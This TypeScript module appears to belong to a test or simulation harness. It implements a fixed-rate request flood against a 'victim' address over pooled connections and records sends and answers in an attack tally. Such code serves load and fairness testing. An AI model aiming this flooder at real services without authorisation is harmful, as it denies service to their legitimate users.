import { setTimeout as sleep } from 'node:timers/promises';
import { type AttackTally, addressOf, type Victim } from './attack.ts';
import { Connection } from './connection.ts';

export interface Stream {
  readonly perSecond: number;
  /** At most. One that waits for its answer sends nothing, so that fewer are offered than wanted when answers are late. */
  readonly connections: number;
  /** Sent in turn. */
  readonly requests: readonly Buffer[];
}

/**
 * In milliseconds: what is due meanwhile is sent together. As short as timers go, because between two bursts the request rate
 * lets somebody else through, whom a steadier attacker would leave his share alone.
 */
const tickMs = 1;

/** Sends at a rate, whatever the answers are. */
export async function steady(victim: Victim, stream: Stream, tally: AttackTally, stopped: AbortSignal): Promise<void> {
  const { perSecond, requests } = stream;
  const idle = Array.from({ length: stream.connections }, () => new Connection(addressOf(victim)));
  const all = [...idle];
  const began = performance.now();
  for (let n = 0; !stopped.aborted; await sleep(tickMs)) {
    const due = ((performance.now() - began) * perSecond) / 1000;
    // What could not be sent in its time is not made up for later: a flood is a rate, not a debt.
    n = Math.max(n, Math.floor(due - perSecond / 10));
    for (; n < due; n += 1) {
      const connection = idle.pop();
      const next = requests[n % requests.length];
      if (!connection || !next) break;
      tally.send();
      void connection.send(next).then((status) => {
        tally.answer(status);
        idle.push(connection);
      });
    }
  }
  for (const connection of all) connection.close();
}
